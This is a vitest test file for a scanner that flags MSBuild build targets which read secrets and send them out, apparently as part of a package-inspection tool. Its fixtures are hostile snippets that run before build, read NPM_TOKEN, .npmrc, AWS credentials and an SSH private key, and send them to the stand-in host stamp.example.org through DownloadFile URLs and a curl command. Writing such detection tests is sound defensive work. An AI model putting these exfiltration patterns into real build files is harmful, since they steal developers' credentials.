import { describe, expect, it } from 'vitest';
import type { FlowFact } from '../../src/facts/flow.js';
import { factsOf, inspectedFiles } from './rich-package.js';

async function flowsIn(body: string): Promise<readonly FlowFact[]> {
  const text = `<Project>\n${body}\n</Project>`;
  return factsOf(await inspectedFiles({ 'build/Test.Package.targets': text }), 'flow');
}

const shown = ({ source, sink, endpoint }: FlowFact): string =>
  `${source.kind} ${source.area} ${sink.part} ${endpoint?.owner} ${endpoint?.host}`;

const target = (inside: string): string =>
  `<Target Name="T" BeforeTargets="Build">${inside}</Target>`;
const url = 'https://stamp.example.org/a';

describe('secrets that a build reads and sends in its own language', () => {
  it.each([
    [
      'a variable as a property',
      `<DownloadFile SourceUrl="${url}/$(NPM_TOKEN)" />`,
      'environment package-manager url',
    ],
    [
      'a variable by a function',
      `<DownloadFile SourceUrl="${url}/$([System.Environment]::GetEnvironmentVariable('NPM_TOKEN'))" />`,
      'environment package-manager url',
    ],
    [
      'a file inside of functions',
      `<PropertyGroup><A>$([System.IO.File]::ReadAllText('$(HOME)/.npmrc'))</A><B>$([MSBuild]::ConvertToBase64('$(A)'))</B></PropertyGroup>
       <DownloadFile SourceUrl="${url}?$(B)" />`,
      'credential-file package-manager url',
    ],
    [
      'a path that is put together',
      `<PropertyGroup><P>$([System.IO.Path]::Combine($(HOME), '.aws', 'credentials'))</P></PropertyGroup>
       <DownloadFile SourceUrl="${url}?$([System.IO.File]::ReadAllText('$(P)'))" />`,
      'credential-file aws url',
    ],
    [
      'lines that a task reads',
      `<ReadLinesFromFile File="$(HOME)/.ssh/id_rsa"><Output TaskParameter="Lines" ItemName="L" /></ReadLinesFromFile>
       <DownloadFile SourceUrl="${url}?@(L)" />`,
      'credential-file ssh-gpg url',
    ],
    [
      'a command',
      `<Exec Command="curl -d $(NPM_TOKEN) ${url}" />`,
      'environment package-manager body',
    ],
    [
      'a list',
      `<ItemGroup><I Include="$(NPM_TOKEN)" /></ItemGroup><DownloadFile SourceUrl="${url}?@(I)" />`,
      'environment package-manager url',
    ],
  ])('%s', async (_, inside, what) => {
    const flows = await flowsIn(target(inside));
    expect([...new Set(flows.map(shown))]).toEqual([`${what} fixed stamp.example.org`]);
  });

  it.each([
    [
      'the name of a host',
      `<DownloadFile SourceUrl="https://$(NPM_TOKEN).stamp.example.org/" />`,
      '*.stamp.example.org',
    ],
  ])('%s', async (_, inside, host) => {
    const flows = await flowsIn(target(inside));
    expect(flows.map(({ endpoint }) => endpoint?.host)).toEqual([host]);
  });

  it.each([
    ['a version in an address', `<DownloadFile SourceUrl="${url}/$(Version)/tool.zip" />`],
    [
      'a variable that goes nowhere',
      `<Message Text="$(NPM_TOKEN)" /><DownloadFile SourceUrl="${url}" />`,
    ],
    ['a program that sends nothing', '<Exec Command="tool --key $(NPM_TOKEN)" />'],
  ])('nothing of %s', async (_, inside) => {
    expect(await flowsIn(target(inside))).toEqual([]);
  });

  it('a token in a header is how a client says who it is', async () => {
    const flows = await flowsIn(
      target(`<Exec Command="curl -H &quot;Authorization: token $(GITHUB_TOKEN)&quot; ${url}" />`),
    );
    expect(flows.map(({ sink }) => sink.part)).toEqual(['header']);
  });
});
